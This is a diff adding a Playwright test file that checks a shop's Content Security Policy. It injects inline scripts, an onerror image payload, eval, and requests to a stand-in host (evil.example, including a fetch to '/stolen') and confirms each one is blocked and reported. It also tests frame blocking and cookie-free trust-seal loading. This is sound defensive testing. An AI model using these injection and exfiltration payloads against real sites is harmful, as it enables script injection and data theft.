@@ -1,0 +1,129 @@
+import type { Page } from "@playwright/test";
+import { TRUST_SEAL_ORIGIN, contentPolicy } from "../../src/content-policy.ts";
+import { islandsReady, watch } from "./shop.ts";
+import { expect, test } from "./shopper.ts";
+
+/** What a script of somebody else's could do if it got into a page: nothing, and these tests hear of the attempt. */
+
+const ELSEWHERE = "http://evil.example";
+
+/** Another site that answers everything, and what it was asked for. */
+async function openElsewhere(page: Page, body = "globalThis.intruded = true"): Promise<string[]> {
+  const asked: string[] = [];
+  await page.context().route(`${ELSEWHERE}/**`, (route) => {
+    asked.push(route.request().url());
+    const contentType = route.request().url().endsWith(".js") ? "text/javascript" : "text/html";
+    return route.fulfill({ contentType, body });
+  });
+  return asked;
+}
+
+/** Each returns once the page has refused it or done it. */
+const intrusions: Record<string, (page: Page) => Promise<unknown>> = {
+  "script-src-elem inline": (page) => insert(page, "script", { textContent: "globalThis.intruded = true" }),
+  "script-src-attr inline": (page) =>
+    insert(page, "div", { innerHTML: "<img src=/none.png onerror='globalThis.intruded = true'>" }),
+  "script-src eval": (page) =>
+    page.evaluate(
+      () =>
+        new Promise<void>((resolve) =>
+          setTimeout(() => {
+            try {
+              // oxlint-disable-next-line no-eval -- that it is refused is what is looked at
+              globalThis.eval("globalThis.intruded = true");
+            } catch {
+              // Refused, and the console says nothing of it: the event does.
+            }
+            resolve();
+          }),
+        ),
+    ),
+  "script-src-elem evil.example": (page) => insert(page, "script", { src: `${ELSEWHERE}/script.js` }),
+  "script-src-elem data": (page) => insert(page, "script", { src: "data:text/javascript,globalThis.intruded = true" }),
+  "style-src-elem inline": (page) => insert(page, "style", { textContent: "body { display: none }" }),
+  "style-src-attr inline": (page) => insert(page, "div", { innerHTML: "<p style='position: fixed'></p>" }),
+  "style-src-elem evil.example": (page) => insert(page, "link", { rel: "stylesheet", href: `${ELSEWHERE}/style.css` }),
+  "img-src evil.example": (page) => insert(page, "img", { src: `${ELSEWHERE}/image.png` }),
+  "connect-src evil.example": (page) => page.evaluate((address) => fetch(address).catch(() => null), `${ELSEWHERE}/stolen`),
+  "frame-src evil.example": (page) => insert(page, "iframe", { src: `${ELSEWHERE}/frame` }),
+  "object-src evil.example": (page) => insert(page, "object", { data: `${ELSEWHERE}/object`, type: "text/html" }),
+  "base-uri evil.example": (page) => insert(page, "base", { href: `${ELSEWHERE}/` }),
+  "form-action evil.example": (page) =>
+    page.evaluate((action) => {
+      const form = Object.assign(document.createElement("form"), { action, method: "post" });
+      document.body.append(form);
+      form.requestSubmit();
+    }, `${ELSEWHERE}/form`),
+};
+
+async function insert(page: Page, tag: string, properties: Record<string, string>): Promise<void> {
+  await page.evaluate(([name, values]) => document.body.append(Object.assign(document.createElement(name), values)), [
+    tag,
+    properties,
+  ] as const);
+}
+
+for (const path of ["/", "/auth"]) {
+  test(`${path} refuses whatever is not the shop's own, and that is heard of`, async ({ context }) => {
+    const page = await context.newPage();
+    const complaints = await watch(page, new Set([404]));
+    const asked = await openElsewhere(page);
+    await page.goto(path);
+    await islandsReady(page);
+    expect(complaints).toEqual([]);
+
+    for (const [name, intrude] of Object.entries(intrusions)) {
+      await test.step(name, async () => {
+        complaints.length = 0;
+        await intrude(page);
+        const [directive = "", what = ""] = name.split(" ");
+        await expect
+          .poll(() => complaints.filter((complaint) => complaint.includes(`refused ${directive}: `)).join())
+          .toContain(what);
+      });
+    }
+    expect(asked).toEqual([]);
+    expect(new URL(page.url()).pathname).toBe(path);
+    expect(await page.evaluate(() => "intruded" in globalThis)).toBe(false);
+  });
+}
+
+test("no page of the shop is shown inside another site's", async ({ context, baseURL }) => {
+  const page = await context.newPage();
+  const paths = ["/", "/cart", "/auth", "/terms", "/no-such-page", "/api/v1/categories", "/art/itunes.svg"];
+  const frames = paths.map((path) => `<iframe src="${baseURL ?? ""}${path}"></iframe>`).join("");
+  await openElsewhere(page, `<!doctype html><title>x</title>${frames}`);
+  await page.goto(`${ELSEWHERE}/`, { waitUntil: "load" });
+  const shown = page.frames().filter((frame) => frame !== page.mainFrame());
+  expect(shown).toHaveLength(paths.length);
+  for (const frame of shown) expect(frame.url()).toBe("chrome-error://chromewebdata/");
+});
+
+test("a shop that has the trust seal shows it, and the seal learns whose page it stands on and no more", async ({
+  page,
+  baseURL,
+}) => {
+  const imagePolicy = (hasTrustSeal: boolean) => contentPolicy({ hasTrustSeal }).find((part) => part.startsWith("img-src")) ?? "";
+  const seen: Record<string, string>[] = [];
+  await page.route(`${TRUST_SEAL_ORIGIN}/**`, async (route) => {
+    seen.push(await route.request().allHeaders());
+    await route.fulfill({
+      contentType: "image/svg+xml",
+      body: '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="100"/>',
+    });
+  });
+  // The page as it is with a seal in its settings: its picture in the policy and in the footer.
+  await page.route("**/verify/email*", async (route) => {
+    const response = await route.fetch();
+    const policy = response.headers()["content-security-policy"] ?? "";
+    expect(policy).toContain(imagePolicy(false));
+    const seal = `<img id="seal" src="${TRUST_SEAL_ORIGIN}/logo.aspx?id=1" referrerpolicy="origin" alt="">`;
+    await route.fulfill({
+      headers: { ...response.headers(), "content-security-policy": policy.replace(imagePolicy(false), imagePolicy(true)) },
+      body: (await response.text()).replace("</footer>", `${seal}</footer>`),
+    });
+  });
+  await page.goto("/verify/email");
+  await expect.poll(() => page.locator("#seal").evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(90);
+  expect(seen.map(({ referer, cookie }) => ({ referer, cookie }))).toEqual([{ referer: `${baseURL ?? ""}/`, cookie: undefined }]);
+});
